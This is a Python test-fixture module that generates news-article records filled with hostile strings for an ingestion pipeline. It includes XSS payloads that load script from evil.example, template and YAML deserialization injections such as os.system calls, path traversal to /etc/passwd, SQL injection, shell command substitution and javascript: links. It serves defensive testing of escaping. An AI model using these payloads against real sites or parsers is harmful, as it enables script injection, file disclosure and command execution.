"""Hostile records: articles whose every text is an attack, after the public lists of such strings.

After OWASP's XSS filter evasion list, the big list of naughty strings, the template languages of the generators,
YAML's traps and the tricks with paths. All of these are text: a reader must see each of them as it stands.
"""

from dataclasses import replace
from datetime import datetime, timedelta

from ingest.article import (
    Article,
    Author,
    Cell,
    Dateline,
    Heading,
    Image,
    Listing,
    Paragraph,
    Preformatted,
    Quotation,
    Run,
    Security,
    Table,
)
from tests.output import hostile_evasions
from tests.output.hostile import TITLES

XSS = [
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(1)"></img>',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74>",
    '<SCRIPT/XSS SRC="//evil.example/x.js"></SCRIPT>',
    "<<SCRIPT>alert('XSS');//\\<</SCRIPT>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    "</textarea></style></noscript><svg/onload=alert(1)>",
    "<BODY ONLOAD=alert('XSS')>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'//evil.example/x.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '"><script>alert(document.domain)</script>',
    "' autofocus onfocus=alert(1) x='",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
]  # fmt: skip
MARKUP = [
    "[x](javascript:alert(1))",
    "![x](https://evil.example/beacon.png)",
    "[x]: https://evil.example 'y'",
    "<https://evil.example/auto>",
    "https://evil.example/bare and www.evil.example and a@evil.example",
    "![x][y] [^1] [^1]: note",
    "| a | b |",
    "{: onclick='alert(1)'} text {:.c #id}",
    "{::options parse_block_html='true' /} {::nomarkdown}<b>{:/}",
    "```js alert(1) ``` ~~~",
    "~~gone~~ ==mark== H~2~O x^2^ ++ins++ :smile: - [ ] task",
    "*[HTML]: abbreviation",
    "$$x^2$$ \\(y\\) \\[z\\]",
    "# heading {#id}",
    "> quote",
    "    indented",
    "1. one",
    "--- *** ___ === ... -- (c) (tm)",
]
TEMPLATES = [
    "{{ site.title }} {{ 7 | times: 7 }}",
    "{% include ../../_config.yml %} {% if %}",
    "{% raw %}{{ x }}{% endraw %}{% comment %}",
    '{{< ref "x" >}} {{% readfile file="/etc/passwd" %}}',
    '{{ .Site.Title }} {{ template "x" . }} {{/* c */}}',
    "{{{{}}}} {%- -%} {{- -}} {#- c -#}",
    "{{ ''.constructor.constructor('return process')() }}",
    '{{ range.constructor("return global.process")() }} {% set x = 1 %}',
    "{# a comment #} {{ collections.all | dump }}",
    "{alert(1)} {process.env.HOME} ${7*7} `${x}`",
    "import x from 'fs'; export const y = <div/>;",
    "<Content {...props} /> <Fragment set:html={x} />",
    "<%= 7*7 %> #{7*7} @{7*7} *{7*7} [[${7*7}]]",
]  # fmt: skip
YAML = [
    "--- |",
    "... end",
    "key: value # comment",
    "!!python/object/apply:os.system ['id']",
    "!ruby/object:Gem::Installer {}",
    "&anchor *alias <<: *x",
    "[a, b]: {c: d}",
    "| literal",
    "> folded",
    "% directive",
    ":symbol",
    "null",
    "0o17",
    "1_000",
    "2026-09-01 00:00:00",
    "=",
    "yes",
    "0x1F",
    ".inf",
    "'it''s' \"q\\\"q\" \\x41 \\u0041",
]
PATHS = [
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/shadow",
    "C:\\con.txt",
    "con",
    "NUL.md",
    "a/b/c",
    ".htaccess",
    "~root",
    "%2e%2e%2f%2e%2e%2fetc",
    "CaseClash",
    "caseclash",
    "file:///etc/passwd",
    "x" * 400,
    "index",
    "_config.yml",
    "name\x00.html",
    "a?b#c&d=e",
]
NAUGHTY = [
    "undefined",
    "constructor",
    "__proto__",
    "hasOwnProperty",
    "ÅÍÎÏ˝ÓÔ ˙∆˚¬…æ",
    "Ω≈ç√∫˜µ≤≥÷",
    "田中さんにあげて下さい",
    "الاختبار العربي 123",
    "\u202etest\u202c right to left",
    "zero\u200bwidth\u200djoin\ufeff",
    "👩‍👩‍👧‍👦 family 🇨🇳 flag",
    "Z̸͚̒ă̵̠l̴̩̓g̵̫̽o̶͎͐",
    "' OR 1=1 -- ; DROP TABLE posts;",
    "$(touch x) `touch x` | touch x; touch x",
    "line\u2028separator\u2029here",
    "\ufffe\uffff\ud800 half",
    "& &amp; &lt; &#60; &#x3c; &copy &copy; &nbsp;",
    "%s%d%n %x {0} {name}",
]
TEXTS = list(dict.fromkeys([*XSS, *MARKUP, *TEMPLATES, *YAML, *PATHS, *NAUGHTY, *TITLES, *hostile_evasions.TEXTS]))

HREFS = [
    "javascript:alert(1)",
    " java\tscript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "//evil.example/relative",
    'https://news.example/a"onclick="alert(1)',
    "https://news.example/a)b](javascript:alert(1))",
    "https://news.example/{{x}}{%y%}",
    "file:///etc/passwd",
    "mailto:desk@news.example?subject=<x>",
]  # fmt: skip


def picture(number: int) -> str:
    """Address of the picture of this record, hostile in every third."""
    return HREFS[number % len(HREFS)] if number % 3 == 0 else f'https://img.example/{number}.png?a=1&copy=2"<>'


def pairs(*, swapped: bool) -> list[tuple[str, str]]:
    """Return all texts, two for each record, the first for its head and the second for its body, or the other way."""
    halves = TEXTS[: len(TEXTS) // 2], TEXTS[(len(TEXTS) + 1) // 2 :]
    return list(zip(*(reversed(halves) if swapped else halves), strict=True))


def record(number: int, head: str, text: str) -> Article:
    """Return an article that says two texts in every place; every other one has the first as its identity too."""
    run = Run(text)
    href = HREFS[number % len(HREFS)]
    outlet = head if number % 2 else "稻香日报"
    return Article(
        "hostile",
        title_raw=head,
        outlet_raw=outlet,
        digest_raw=text,
        body_raw=f"<p>{head}</p>{text}",
        id=head.replace("\ud800", "") if number % 2 else f"HX{number:018d}",
        source_url=f"https://news.example/{number}?a=1&copy=2",
        title=head,
        published=datetime.fromisoformat("2026-08-01T09:00:00+08:00") + timedelta(minutes=number),
        modified=datetime.fromisoformat("2026-08-02T09:00:00+08:00") if number % 4 == 0 else None,
        outlet=outlet,
        description=text,
        authors=(Author(head, "reporter"),),
        dateline=Dateline(head, head),
        securities=(Security("600000.SH", head),),
        blocks=(
            Paragraph((Run(head),)),
            Paragraph((run,)),
            Heading((run,), 2),
            Image(picture(number), text, (run,)),
            Table(((Cell((run,), header=True), Cell((run,), header=True)), (Cell((run,)), Cell((run,))))),
            Table(((Cell((run,), colspan=2),), (Cell((run, Run("\n"), run)), Cell((run,))))),
            Listing(((Paragraph((run,)),), (Paragraph((run,)),)), ordered=True, start=3),
            Quotation((Paragraph((Run(text, strong=True), Run("稻"), Run(text, emphasis=True, href=href))),)),
            Preformatted(f"{text}\n  {text}"),
            Paragraph((run, Run("\n"), Run(text, href=href), Run("。"))),
        ),
    )


def records(*, swapped: bool) -> list[Article]:
    """Return the whole set: each text in the head of a record or in its body, and bodies that attack together."""
    texts = [record(number, *pair) for number, pair in enumerate(pairs(swapped=swapped))]
    composed = [
        replace(record(len(texts) + number, f"合成 {number}", "文"), blocks=(Paragraph((Run("首"),)), *blocks))
        for number, blocks in enumerate(hostile_evasions.compositions())
    ]
    return [*texts, *composed]
